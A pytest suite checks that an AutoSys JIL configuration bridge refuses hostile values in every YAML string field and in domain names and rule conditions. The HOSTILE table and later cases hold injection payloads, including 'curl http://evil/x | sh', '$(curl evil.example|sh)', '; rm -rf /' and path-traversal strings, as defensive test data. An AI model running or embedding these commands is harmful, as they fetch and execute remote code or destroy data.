"""No configuration value can inject JIL, shell syntax or a path: every string field of the
file, given a hostile fragment, is refused by `validate` with exit 2 and one line naming the
domain and the field, and `jil` emits nothing for it."""

import copy
import functools

import pytest
import yaml

from autosys_bridge import cli
from er_assets import exit_codes
from er_assets.config import DEFAULT_CONFIG_PATH

HOSTILE = {
    "newline": "\ninsert_job: PWN   job_type: CMD\ncommand: curl http://evil/x | sh",
    "carriage return": "\rx",
    "tab": "\tx",
    "nul": "\x00",
    "semicolon": "; rm -rf /",
    "command substitution": "$(curl evil.example|sh)",
    "backquote": "`id`",
    "parent segment": "/../../tmp/escaped",
    "zero-width space": "\u200b",
}
# value_formats holds regular expressions, bound as SQL parameters: they may contain `;`, `$`
# or `..` (regex syntax), but never control characters.
REGEX_FIELDS = {"value_formats"}
CONTROL = {"newline", "carriage return", "tab", "nul", "zero-width space"}


def _base() -> dict:
    """The shipped configuration with every optional string field spelt out."""
    return copy.deepcopy(_shipped())


def _dump(raw) -> str:
    return yaml.dump(raw, Dumper=yaml.CSafeDumper, sort_keys=False)


@functools.cache
def _shipped() -> dict:
    raw = yaml.load(DEFAULT_CONFIG_PATH.read_text(), Loader=yaml.CSafeLoader)
    customers = raw["domains"]["customers"]
    customers["notifications"].update(on_failure=["ops@example.com"], on_success=["done@example.com"])
    customers["autosys"].update(command="/opt/er/.venv/bin/autosys-bridge", permission="gx,ge")
    customers["dq"].update(value_formats={"ADDRESS_POSTALCODE": "[0-9]{5}"}, severity={"value_formats": "WARN"})
    customers["schema"]["mappedInputFields"][1]["subType"] = "given"
    return {"settings": raw["settings"], "domains": {"customers": customers, "products": raw["domains"]["products"]}}


def _string_fields(node, path=()):
    """Paths of every string in the document (the first item of each list stands for all)."""
    items = node.items() if isinstance(node, dict) else list(enumerate(node))[:1] if isinstance(node, list) else ()
    for key, value in items:
        if isinstance(value, str):
            yield path + (key,)
        else:
            yield from _string_fields(value, path + (key,))


FIELDS = [p for p in _string_fields(_base()) if p[:2] != ("domains", "products")]


def _set(raw, path, value):
    node = raw
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value


@pytest.fixture(autouse=True)
def _one_parser(monkeypatch):
    # Building the argument parser costs more than validating a file; build it once.
    monkeypatch.setattr(cli, "build_parser", functools.lru_cache(cli.build_parser))


def _run(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_the_base_configuration_is_valid_and_emits_the_statements_it_defines(tmp_path, capsys):
    path = tmp_path / "domains.yaml"
    path.write_text(_dump(_base()))
    assert _run(capsys, "validate", "--config", str(path))[0] == exit_codes.OK
    code, out, _ = _run(capsys, "jil", "--config", str(path))
    # the resource, a box and three jobs per domain, the ER_ON_DEMAND box and its three jobs
    assert code == exit_codes.OK and out.count("insert_job:") == 2 * 4 + 4 and out.count("insert_resource:") == 1
    assert len(FIELDS) > 35


@pytest.mark.parametrize("path", FIELDS, ids=lambda p: ".".join(map(str, p)))
def test_every_string_field_refuses_every_hostile_fragment(tmp_path, capsys, path):
    raw = _base()
    original = raw
    for key in path:
        original = original[key]
    for name, fragment in HOSTILE.items():
        if REGEX_FIELDS & set(path) and name not in CONTROL:
            continue
        raw = _base()
        _set(raw, path, original + fragment)
        config = tmp_path / "domains.yaml"
        config.write_text(_dump(raw))
        code, out, err = _run(capsys, "validate", "--config", str(config))
        lines = err.splitlines()
        assert code == exit_codes.USAGE and len(lines) == 1, (name, err)
        where = "domain 'customers'" if path[0] == "domains" else "settings."
        assert lines[0].startswith(f"autosys-bridge: error: {config}:") and where in lines[0], (name, err)
        field = next(str(k) for k in reversed(path) if isinstance(k, str))
        assert field in lines[0], (name, err)
        if name in ("newline", "semicolon"):  # `jil` validates the same way; spot-check it
            code, out, err = _run(capsys, "jil", "--config", str(config))
            assert code == exit_codes.USAGE and "insert_job" not in out, (name, out)


@pytest.mark.parametrize(
    "field, value",
    [
        ("prefix", "../../tmp/escaped"),
        ("prefix", "entity-resolution//customers"),
        ("prefix", "/entity-resolution/customers"),
        ("prefix", "entity-resolution/./customers"),
        ("bucket", "er..lake"),
        ("autosys.log_dir", "/var/log/../../tmp"),
        ("autosys.profile", "/etc/autosys/.."),
        ("autosys.command", "../bin/autosys-bridge"),
        ("autosys.command", "autosys-bridge --config=/etc/../tmp/x.yaml"),
        ("autosys.machine", "host..example"),
        ("notifications.emails", ["a..b@example.com"]),
    ],
)
def test_traversal_and_empty_segments_are_refused(tmp_path, capsys, field, value):
    raw = _base()
    _set(raw, ("domains", "customers", *field.split(".")), value)
    config = tmp_path / "domains.yaml"
    config.write_text(_dump(raw))
    code, _, err = _run(capsys, "validate", "--config", str(config))
    assert code == exit_codes.USAGE and f"domain 'customers': {field}" in err, err


def test_a_hostile_domain_name_is_refused(tmp_path, capsys):
    raw = _base()
    raw["domains"]["x;id"] = raw["domains"].pop("products")
    config = tmp_path / "domains.yaml"
    config.write_text(_dump(raw))
    code, _, err = _run(capsys, "validate", "--config", str(config))
    assert code == exit_codes.USAGE and "domain 'x;id': name: 'x;id' is not a domain name" in err, err


def test_a_rule_condition_is_held_to_the_condition_language(tmp_path, capsys):
    raw = _base()
    raw["domains"]["products"]["resolution"] = {
        "ruleConditionProperties": {"rules": [{"ruleName": "upc", "condition": "Exact(upc)"}]}
    }
    config = tmp_path / "domains.yaml"
    config.write_text(_dump(raw))
    assert _run(capsys, "validate", "--config", str(config))[0] == exit_codes.OK
    for bad in ("Exact(upc); rm -rf /", "Exact(`id`)", "Exact($(id))"):
        raw["domains"]["products"]["resolution"]["ruleConditionProperties"]["rules"][0]["condition"] = bad
        config.write_text(_dump(raw))
        code, _, err = _run(capsys, "validate", "--config", str(config))
        assert code == exit_codes.USAGE and "resolution.ruleConditionProperties.rules[upc].condition" in err, err
